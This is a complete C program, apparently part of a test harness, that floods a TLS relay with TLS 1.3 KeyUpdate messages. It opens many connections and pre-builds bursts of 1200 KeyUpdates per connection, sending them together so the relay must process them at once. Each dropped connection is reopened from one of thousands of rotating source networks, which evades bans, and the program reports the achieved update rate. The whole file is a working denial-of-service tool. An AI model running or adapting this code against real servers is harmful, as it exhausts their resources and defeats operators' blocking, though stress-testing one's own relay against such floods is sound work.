/*
 * TLS 1.3 KeyUpdates before any HELLO: key_updates RELAY CONNECTIONS [NAME], as long as attack.py
 * says. With NAME they go to the https site of that name, behind the shared tls port. Each
 * connection says nothing else; one that is ended comes again from another network. A burst for
 * each is made first, and then all are sent together, so that the relay finds them in one turn. At
 * last "rate N", KeyUpdates a second.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/ssl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { AGENTS_PORT = 7000, TLS_PORT = 443, BURST = 1200, CONNECTIONS_MOST = 256, NETWORKS = 5000 };

struct peer {
	SSL *ssl; /* NULL: not connected */
	int fd;
	BIO *out; /* what SSL would send */
};

static SSL_CTX *context;
static const char *name; /* NULL: the agents' door */
static struct sockaddr_in relay = {.sin_family = AF_INET};
static unsigned opened;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void finish(struct peer *p)
{
	SSL_free(p->ssl);
	close(p->fd);
	p->ssl = NULL;
}

static void begin(struct peer *p)
{
	struct sockaddr_in from = {.sin_family = AF_INET};
	struct timeval patience = {.tv_sec = 1};

	from.sin_addr.s_addr = htonl((11u << 24 | 64u << 16) + opened++ % NETWORKS * 257);
	p->fd = socket(AF_INET, SOCK_STREAM, 0);
	p->ssl = SSL_new(context);
	setsockopt(p->fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	setsockopt(p->fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	SSL_set_fd(p->ssl, p->fd);
	if (name)
		SSL_set_tlsext_host_name(p->ssl, name);
	if (bind(p->fd, (struct sockaddr *)&from, sizeof(from)) < 0 ||
	    connect(p->fd, (struct sockaddr *)&relay, sizeof(relay)) < 0 ||
	    SSL_connect(p->ssl) != 1) {
		finish(p);
		return;
	}
	p->out = BIO_new(BIO_s_mem());
	SSL_set0_wbio(p->ssl, p->out);
}

static void make_burst(struct peer *p)
{
	for (unsigned i = 0; i < BURST; i++) {
		SSL_key_update(p->ssl, SSL_KEY_UPDATE_NOT_REQUESTED);
		SSL_do_handshake(p->ssl);
	}
}

/* How many KeyUpdates were taken. */
static unsigned send_burst(struct peer *p)
{
	char *data;
	long len = BIO_get_mem_data(p->out, &data);

	if (send(p->fd, data, (size_t)len, MSG_NOSIGNAL) != len) {
		finish(p);
		return 0;
	}
	(void)BIO_reset(p->out);
	return BURST;
}

static bool goes_on(double begun, double length)
{
	const char *enough = getenv("ENOUGH"), *slow = getenv("SLOW");
	double most = length + 60 * (slow ? atof(slow) : 1);

	return now() < begun + length ||
	       (enough && access(enough, F_OK) < 0 && now() < begun + most);
}

int main(int argc, char **argv)
{
	static struct peer all[CONNECTIONS_MOST];
	const char *seconds = getenv("ATTACK_S");
	double length = seconds ? atof(seconds) : 2, begun = now();
	unsigned count = argc == 3 || argc == 4 ? (unsigned)atoi(argv[2]) : 0;
	unsigned long updates = 0;

	if (count == 0 || count > CONNECTIONS_MOST ||
	    inet_pton(AF_INET, argv[1], &relay.sin_addr) != 1)
		return 2;
	name = argv[3];
	relay.sin_port = htons(name ? TLS_PORT : AGENTS_PORT);
	context = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_min_proto_version(context, TLS1_3_VERSION);
	if (!name)
		SSL_CTX_set_alpn_protos(context, (const unsigned char *)"\013groundnut/1", 12);
	puts("ready");
	fflush(stdout);
	while (goes_on(begun, length)) {
		for (struct peer *p = all; p < all + count; p++)
			if (!p->ssl)
				begin(p);
		for (struct peer *p = all; p < all + count; p++)
			if (p->ssl)
				make_burst(p);
		for (struct peer *p = all; p < all + count; p++)
			if (p->ssl)
				updates += send_burst(p);
	}
	printf("opened %u\nrate %.0f\n", opened, (double)updates / (now() - begun));
	return 0;
}
